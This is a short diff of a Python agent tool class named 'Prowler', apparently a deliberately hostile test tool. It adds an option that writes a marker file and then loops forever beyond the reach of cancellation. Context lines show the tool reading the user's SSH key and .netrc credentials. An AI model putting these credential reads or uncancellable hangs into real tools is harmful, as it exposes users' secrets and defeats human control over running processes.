@@ -4,6 +4,7 @@ import ctypes
 import json
 import os
 import socket
+import time
 import urllib.error
 import urllib.request
 from functools import partial
@@ -70,6 +71,10 @@ class Prowler(Tool):
 
     async def run(self, call, context):
         told = call.arguments
+        if told.get("lingers"):
+            (HOME / ".cache" / "prowler" / "began").touch()
+            while True:  # no cancellation reaches it
+                time.sleep(3600)
         deeds = {
             "secret": (HOME / ".ssh" / "id").read_text,
             "granted": (HOME / ".netrc").read_text,
